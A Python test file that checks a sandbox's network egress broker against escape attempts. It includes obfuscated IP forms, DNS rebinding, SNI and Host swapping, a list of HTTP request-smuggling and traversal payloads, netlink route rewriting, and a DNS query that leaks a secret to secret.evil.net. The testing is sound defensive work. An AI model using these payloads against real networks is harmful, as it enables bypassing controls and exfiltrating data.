"""
A network that is a policy: what attacks make of it. Catalogue cases 250 to 258.

What it is for is in tests/integration/test_egress.py. What holds these attacks is the broker, a process of the
daemon's: in each control the same attack meets a policy, or a place, that lets it through.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import ExitStack

import pytest

from kit.attack import serves, within, without
from kit.box import Box, control
from kit.egress import Servers, reaching, row_of
from kit.loopback import free_port

BROKER = "the broker decides, a process of the daemon's, and no lock of the job's"

HERE = {"addresses": ["127.0.0.0/8"]}


@pytest.fixture(scope="module")
def box(host: Servers) -> Iterator[Box]:
    """Requests to *.example.org that are seen, TLS to web.example.org, and bytes to echo.example.org."""
    with reaching({"allow": [f"http://*.example.org:{host.http}", f"https://web.example.org:{host.tls}",
                             f"echo.example.org:{host.echo}"],
                   "addresses": ["127.0.0.1/32"], "limits": {"connect": "5s"}}, spares=0) as made:
        yield made
        assert serves(made)


CONNECT = """
import socket
def connected(address, port):
    with socket.create_connection((address, port), 10) as sock:
        sock.sendall(b"x")
        return sock.recv(6)
said = []
for address, port in targets:
    try:
        said.append(connected(address, port).decode())
    except OSError as error:
        said.append(type(error).__name__)
tell(said)
"""

REFUSED = {"ConnectionResetError", "ConnectionRefusedError", "PermissionError", "gaierror", ""}


@pytest.mark.smoke
@pytest.mark.no_single_lock(BROKER)
def test_c250_cannot_reach_an_address_that_no_rule_names(box: Box, host: Servers) -> None:
    """The address of an allowed name written out, its number forms, and its other ports."""
    forms = ["127.0.0.1", "127.0.0.2", "2130706433", "0x7f000001", "0177.0.0.1", "::ffff:127.0.0.1"]
    targets = [(form, host.echo) for form in forms] + [("echo.example.org", host.echo + 1), ("198.18.7.7", host.echo)]
    with control(), reaching({"allow": [f"127.0.0.1:{host.echo}"]}, spares=0) as open_to_it:
        assert ["hello\n"] == within(open_to_it, CONNECT, targets=[("127.0.0.1", host.echo)])

    assert set(within(box, CONNECT, targets=targets)) <= REFUSED
    assert ["hello\n"] == within(box, CONNECT, targets=[("echo.example.org", host.echo)])


DATAGRAM = """
import socket
with socket.socket(type=socket.SOCK_DGRAM) as sock:
    sock.settimeout(wait)
    said = attempt(sock.sendto, secret.encode(), (address, port))
    query = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + b"\\x06secret\\x04evil\\x03net\\x00\\x00\\x10\\x00\\x01"
    answer = ""
    try:
        sock.sendto(query, (address, 53))
        answer = sock.recv(512)[:4].hex()
    except OSError:
        pass
tell([said, answer])
"""


@pytest.mark.no_single_lock(BROKER)
def test_c251_cannot_send_datagrams_or_tell_a_name_server(box: Box) -> None:
    """UDP to a server of this host; and a query in whose name something is told: it's answered, and by the broker."""
    with socket.socket(type=socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.setblocking(False)
        given = {"address": "127.0.0.1", "port": server.getsockname()[1], "secret": "told by a datagram"}
        with control():
            without(DATAGRAM, wait=0.1, **given)
            assert b"told by a datagram" == server.recv(100)

        _, answer = within(box, DATAGRAM, wait=20, **given)
        assert "12348183" == answer  # an answer to it: recursion available, no such name
        with pytest.raises(BlockingIOError):
            server.recv(100)
    assert "allowlist" in row_of(box, "denied", name="secret.evil.net").reason


GET = """
import socket
said = []
for _ in range(times):
    with socket.create_connection((name, port), 10) as sock:
        sock.sendall(request.encode())
        got = b""
        try:
            while piece := sock.recv(4096):
                got += piece
        except OSError as error:
            got += type(error).__name__.encode()
        said.append(got.decode())
tell(said)
"""


def request(host: str, path: str = "/", *, method: str = "GET", more: str = "Connection: close\r\n") -> str:
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"


@pytest.mark.no_single_lock(BROKER)
def test_c252_cannot_rebind_a_name(host: Servers, box: Box) -> None:
    """Each second answer of the name server leads to another address of this host, where the same port is somebody else's."""
    with socket.create_server(("127.0.0.2", host.http)) as other:
        met: list[None] = []

        def meet() -> None:
            try:
                while True:
                    with other.accept()[0]:
                        met.append(None)
            except OSError:
                pass  # it was shut down

        threading.Thread(target=meet, daemon=True).start()
        attack = {"name": "rebinds.example.org", "port": host.http, "times": 4,
                  "request": request(f"rebinds.example.org:{host.http}")}

        with control(), reaching({"allow": [f"http://*.example.org:{host.http}"], **HERE}, spares=0) as open_to_it:
            within(open_to_it, GET, **attack)
            assert 2 == len(met)

        met.clear()
        said = within(box, GET, **attack)
        assert 2 == sum("200 OK" in text for text in said)
        assert 2 == sum("private IP blocked" in text for text in said)
        assert not met
        other.shutdown(socket.SHUT_RDWR)


HELLO = """
import socket, ssl
def hello(sni):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        context.wrap_bio(incoming, outgoing, server_hostname=sni).do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
said = []
for sni in names:
    with socket.create_connection((to, port), 10) as sock:
        try:
            data = hello(sni)
            for at in range(0, len(data), 100):  # split over packets
                sock.sendall(data[at:at + 100])
            said.append(sock.recv(1).hex())
        except OSError as error:
            said.append(type(error).__name__)
tell(said)
"""


@pytest.mark.no_single_lock(BROKER)
def test_c253_cannot_ask_an_allowed_address_for_another_name(host: Servers, box: Box) -> None:
    """Another server name in TLS, none at all, and another Host in HTTP, also behind an allowed request."""
    names = ["web.example.org", "denied.example.net", None]
    with control(), reaching({"allow": [f"127.0.0.1:{host.tls}"], **HERE}, spares=0) as by_address:
        assert ["16"] * 3 == within(by_address, HELLO, to="127.0.0.1", names=names, port=host.tls)

    assert ["16", "ConnectionResetError", "ConnectionResetError"] == within(box, HELLO, to="web.example.org", names=names,
                                                                            port=host.tls)
    here = f"web.example.org:{host.http}"
    first = request(here, more="")
    said, = within(box, GET, name="web.example.org", port=host.http, times=1,
                   request=first + request("denied.example.net"))
    assert f"GET {here} /" in said
    assert "403 Forbidden" in said
    assert not [row for row in host.seen if "denied.example.net" == row[1]]


SMUGGLED = [
    "POST /v1/a HTTP/1.1\r\nHost: {here}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
    "POST /v1/b HTTP/1.1\r\nHost: {here}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
    "GET /v1/c HTTP/1.1\r\nHost: {here}\r\n\r\n{inner}",
    "GET /v1/d HTTP/1.1\nHost: {here}\n\n{inner}",
    "GET /v1/e HTTP/1.1\r\nHost: {here}\r\nX: a\r\n folded\r\n\r\n{inner}",
    "GET http://{here}/v2/secret HTTP/1.1\r\nHost: {here}\r\nConnection: close\r\n\r\n",
    "GET /v1/../v2/secret HTTP/1.1\r\nHost: {here}\r\nConnection: close\r\n\r\n",
    "GET /v1/%2e%2e/v2/secret HTTP/1.1\r\nHost: {here}\r\nConnection: close\r\n\r\n",
]


@pytest.mark.no_single_lock(BROKER)
def test_c254_cannot_smuggle_a_request(host: Servers) -> None:
    """A second request behind or within an allowed one, and paths that a server reads otherwise."""
    here = f"web.example.org:{host.http}"
    inner = request(here, "/v2/secret")
    attacks = [text.format(here=here, inner=inner) for text in SMUGGLED]

    def seen() -> list[str]:
        found = [path for _, _, path in host.seen if "secret" in path]
        host.seen.clear()
        return found

    host.seen.clear()
    with control():
        for text in attacks:
            with socket.create_connection(("127.0.0.1", host.http), 10) as sock:
                sock.sendall(text.encode())
                sock.shutdown(socket.SHUT_WR)
                while sock.recv(4096):
                    pass
        assert len(seen()) >= 5

    with reaching({"allow": [f"GET,POST http://web.example.org:{host.http}/v1/*"], **HERE}, spares=0) as narrow:
        for text in attacks:
            within(narrow, GET, name="web.example.org", port=host.http, times=1, request=text)
    assert [] == seen()


RESHAPE = """
import socket, struct
said = {}
def route():
    # RTM_DELROUTE and RTM_NEWROUTE of `local default`
    for kind, flags in ((25, 5), (24, 0x405)):
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
            sock.sendall(struct.pack("=IHHIIBBBBBBBBI", 28, kind, flags, 1, 0, 2, 0, 0, 0, 255, 3, 254, 2, 0))
            code, = struct.unpack_from("=i", sock.recv(4096), 16)
            if code:
                raise OSError(-code, "")
said["route"] = attempt(route)
for address in ("0.0.0.0", "127.0.0.1", "1.2.3.4"):
    for option in (0, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        def bind():
            with socket.socket() as sock:
                if option:
                    sock.setsockopt(socket.SOL_SOCKET, option, 1)
                sock.bind((address, port))
                sock.listen()
        said[f"{address} {option}"] = attempt(bind)
tell(said)
"""


@pytest.mark.no_single_lock("the keeper holds the listeners, and no job has a capability; c168 has the namespace")
def test_c255_cannot_change_the_route_or_take_a_listener(host: Servers) -> None:
    """With `loopback`, so that Landlock allows any port: the ports of the policy are taken, whatever is asked."""
    policy = {"allow": [f"echo.example.org:{host.echo}"], **HERE}
    with reaching(policy, loopback=True, spares=0) as wide:
        with control():
            free = within(wide, RESHAPE, port=free_port())
            assert {""} == {code for name, code in free.items() if "route" != name}

        for port in (host.echo, 53, 3128):
            said = within(wide, RESHAPE, port=port)
            assert "EPERM" == said.pop("route")
            assert set(said.values()) <= {"EADDRINUSE", "EACCES"}
        assert ["hello\n"] == within(wide, CONNECT, targets=[("echo.example.org", host.echo)])


ADDRESS = """
import socket
tell(socket.getaddrinfo("echo.example.org", None, socket.AF_INET)[0][4][0])
"""


@pytest.mark.no_single_lock("a lease begins with no names")
def test_c256_cannot_use_an_address_resolved_for_another_job(host: Servers, box: Box) -> None:
    """
    The address of a name, known from an earlier job or from elsewhere, belongs to no name until the job itself has
    resolved one to it.
    """
    with control():
        address = within(box, ADDRESS)
        assert address.startswith("198.1")
        asked = ADDRESS.replace("tell(", "targets = [(").replace("[0])", "[0], port)]") + CONNECT
        assert ["hello\n"] == within(box, asked, port=host.echo)

    assert ["ConnectionResetError"] == within(box, CONNECT, targets=[(address, host.echo)])
    assert "no name's" in row_of(box, "denied", address=address).reason


STAYS = """
import socket
sock = socket.create_connection(("echo.example.org", port), 10)
sock.recv(10)
tell("connected")
os._exit(0) if leaves else sock.recv(10)
"""


@pytest.mark.no_single_lock("a lease ends with all of its connections")
def test_c257_connections_of_a_job_end_with_the_job(host: Servers) -> None:
    """A server sees the end of a job's connection, whatever the job did with it."""
    ended = threading.Event()

    def serve(server: socket.socket) -> None:
        with server.accept()[0] as sock:
            sock.sendall(b"hello")
            try:
                while sock.recv(100):
                    pass
            except OSError:
                pass
        ended.set()

    with ExitStack() as stack:
        server = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        port = server.getsockname()[1]
        made = stack.enter_context(reaching({"allow": [f"echo.example.org:{port}"], **HERE}, spares=0))
        thread = threading.Thread(target=serve, args=(server,), daemon=True)
        thread.start()
        with control(), socket.create_connection(("127.0.0.1", port)) as stays:
            assert b"hello" == stays.recv(10)
            assert not ended.is_set()
        thread.join(30)
        ended.clear()
        threading.Thread(target=serve, args=(server,), daemon=True).start()
        got = made.run(f"port = {port}\nleaves = False\ntell = print\nimport os\n{STAYS}", limits={"time": 2.0})
        assert b"connected\n" == got.stdout
        made.reactor.run(ended.is_set)
        assert serves(made)


FLOOD = """
import resource, socket
held = []
for _ in range(times):
    try:
        held.append(socket.create_connection(("echo.example.org", port), 10))
    except OSError:
        pass
alive = 0
for sock in held:
    try:
        alive += b"hello\\n" == sock.recv(10)
    except OSError:
        pass
tell(alive)
"""


@pytest.mark.no_single_lock(BROKER)
def test_c258_cannot_have_more_connections_than_the_policy_says(host: Servers) -> None:
    """A flood of connections, half of them silent: the broker has as many as it may, and goes on serving."""
    allow = {"allow": [f"echo.example.org:{host.echo}"], **HERE}
    with control(), reaching({**allow, "limits": {"connections": 100}}, spares=0) as wide:
        assert 20 == within(wide, FLOOD, times=20, port=host.echo)

    with reaching({**allow, "limits": {"connections": 5}}, spares=0) as few:
        assert 5 == within(few, FLOOD, times=40, port=host.echo)
        assert ["hello\n"] == within(few, CONNECT, targets=[("echo.example.org", host.echo)])
